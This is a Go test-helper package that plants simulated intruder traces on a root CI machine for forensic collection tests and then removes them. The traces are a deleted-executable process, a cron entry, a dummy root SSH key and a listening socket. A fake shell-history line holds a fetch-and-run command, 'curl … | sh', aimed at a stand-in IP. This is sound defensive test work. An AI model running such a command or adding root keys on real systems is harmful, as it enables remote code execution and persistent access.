// Package planted puts known intruder artifacts on this machine for the
// collection tests, and removes them when the test ends: a process whose
// executable was deleted from /tmp, a cron entry, an authorized key for
// root, a shell history line and a listening socket.
//
// Planting touches files every such test shares (root's authorized_keys and
// history), so Plant holds a machine-wide lock from planting to cleanup:
// test packages run in parallel, and two tests restoring the same file
// would undo each other.
package planted

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// lockPath serialises planting across test processes.
const lockPath = "/run/firebreak-test-planted.lock"

// Artifacts are what Plant left on the machine.
type Artifacts struct {
	// Marker is unique to this planting and appears in every artifact.
	Marker string
	// Pid runs an executable that was deleted from ExePath.
	Pid int
	// ExePath is where the executable was.
	ExePath string
	// ExeSHA256 is the executable's hex SHA-256.
	ExeSHA256 string
	// CronFile holds CronLine.
	CronFile, CronLine string
	// KeysFile holds Key, an authorized key for root.
	KeysFile, Key string
	// HistoryFile holds HistoryLine, stamped at HistoryStamp.
	HistoryFile, HistoryLine string
	// HistoryStamp is the history line's time stamp (Unix seconds).
	HistoryStamp int64
	// Port is a TCP port this test process listens on.
	Port int
}

// Plant plants the artifacts, marked with prefix and a random suffix. It
// skips the test unless it runs as root.
func Plant(t testing.TB, prefix string) *Artifacts {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: plants a cron entry in /etc/cron.d, a key in /root/.ssh/authorized_keys and a line in /root/.bash_history (CI runs as root)")
	}
	lock, err := os.OpenFile(lockPath, os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.Flock(int(lock.Fd()), unix.LOCK_EX); err != nil {
		t.Fatal(err)
	}
	// Registered first, so it runs after every other cleanup.
	t.Cleanup(func() {
		_ = unix.Flock(int(lock.Fd()), unix.LOCK_UN)
		lock.Close()
	})
	var nonce [4]byte
	_, _ = rand.Read(nonce[:])
	a := &Artifacts{Marker: prefix + hex.EncodeToString(nonce[:])}

	// A process whose executable was deleted from /tmp.
	a.ExePath = filepath.Join("/tmp", a.Marker)
	src, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(a.ExePath, src, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(a.ExePath) })
	sum := sha256.Sum256(src)
	a.ExeSHA256 = hex.EncodeToString(sum[:])
	cmd := exec.Command(a.ExePath, "600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	a.Pid = cmd.Process.Pid
	// Wait until the kernel has mapped it, then delete it.
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if l, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", a.Pid)); l == a.ExePath {
			break
		}
	}
	if err := os.Remove(a.ExePath); err != nil {
		t.Fatal(err)
	}

	// A cron entry.
	a.CronFile = filepath.Join("/etc/cron.d", a.Marker)
	a.CronLine = "*/7 * * * * root /usr/bin/true " + a.Marker
	if err := os.WriteFile(a.CronFile, []byte("# planted by a test\n"+a.CronLine+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(a.CronFile) })

	// An authorized key for root.
	sshDir := "/root/.ssh"
	if _, err := os.Lstat(sshDir); errors.Is(err, os.ErrNotExist) {
		if err := os.Mkdir(sshDir, 0o700); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Remove(sshDir) })
	}
	a.KeysFile = filepath.Join(sshDir, "authorized_keys")
	RestoreLater(t, a.KeysFile)
	a.Key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f " + a.Marker
	appendFile(t, a.KeysFile, "\n"+a.Key+"\n", 0o600)

	// A shell history line.
	a.HistoryFile = "/root/.bash_history"
	RestoreLater(t, a.HistoryFile)
	a.HistoryStamp = time.Now().Unix()
	a.HistoryLine = "curl -s http://198.51.100.7/" + a.Marker + " | sh"
	appendFile(t, a.HistoryFile, fmt.Sprintf("#%d\n%s\n", a.HistoryStamp, a.HistoryLine), 0o600)

	// A listening TCP socket, held by this test process.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	a.Port = ln.Addr().(*net.TCPAddr).Port
	return a
}

// RestoreLater backs up path (or notes that it is absent) and restores it,
// mode included, when the test ends.
func RestoreLater(t testing.TB, path string) {
	t.Helper()
	fi, err := os.Lstat(path)
	switch {
	case errors.Is(err, os.ErrNotExist):
		t.Cleanup(func() { os.Remove(path) })
	case err != nil:
		t.Fatalf("backing up %s: %v", path, err)
	case !fi.Mode().IsRegular():
		t.Skipf("%s is not a regular file (%s); not touching it", path, fi.Mode())
	default:
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("backing up %s: %v", path, err)
		}
		t.Cleanup(func() {
			if err := os.WriteFile(path, b, fi.Mode().Perm()); err != nil {
				t.Errorf("restoring %s: %v", path, err)
			}
			_ = os.Chmod(path, fi.Mode().Perm())
		})
	}
}

func appendFile(t testing.TB, path, text string, mode os.FileMode) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, mode)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
}
